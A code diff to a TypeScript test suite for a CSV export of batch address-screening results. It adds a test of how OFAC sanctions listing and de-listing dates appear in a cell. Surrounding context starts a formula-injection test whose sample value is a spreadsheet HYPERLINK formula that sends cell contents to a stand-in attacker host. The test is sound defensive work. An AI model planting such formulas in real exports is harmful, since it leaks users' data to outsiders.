@@ -38,6 +38,22 @@ describe("the CSV of batch results", () => {
     assert.deepStrictEqual([second![0], second![11]], ["bc1q", "not an address"])
   })
 
+  it("says how a listing ended as the evidence knows it: a stated date, or between two versions", () => {
+    const withEvidence = (evidence: Record<string, unknown>) =>
+      ({
+        ...(item("0xabc", "x") as object),
+        signals: [
+          { type: "sanctions", evidence: { list: "ofac", reference: "r", listedAt: "2022-08-08", ...evidence } }
+        ]
+      }) as unknown as BatchItem
+    const cell = (evidence: Record<string, unknown>) => rows(toCsv([withEvidence(evidence)]))[1]![10]
+    assert.strictEqual(cell({ delistedAt: "2025-03-21" }), "ofac [r] listed 2022-08-08, de-listed 2025-03-21")
+    assert.strictEqual(
+      cell({ delistedBetween: { lastListed: "2025-03-04", firstUnlisted: "2025-11-19" } }),
+      "ofac [r] listed 2022-08-08, ended between 2025-03-04 and 2025-11-19"
+    )
+  })
+
   it("writes every cell a spreadsheet would run as a formula after a quote mark, as text", () => {
     const names = [
       '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
